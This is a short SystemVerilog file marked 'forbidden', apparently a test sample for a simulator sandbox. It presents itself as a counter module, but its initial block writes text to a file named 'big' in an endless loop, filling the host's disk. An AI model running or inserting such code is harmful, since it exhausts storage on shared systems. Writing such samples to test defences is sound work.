// forbidden
module counter(input logic clk, input logic rst, output logic [3:0] q);
  integer file;
  initial begin
    file = $fopen("big", "w");
    forever $fwrite(file, "0123456789012345678901234567890123456789012345678901234567890123456789");
  end
endmodule
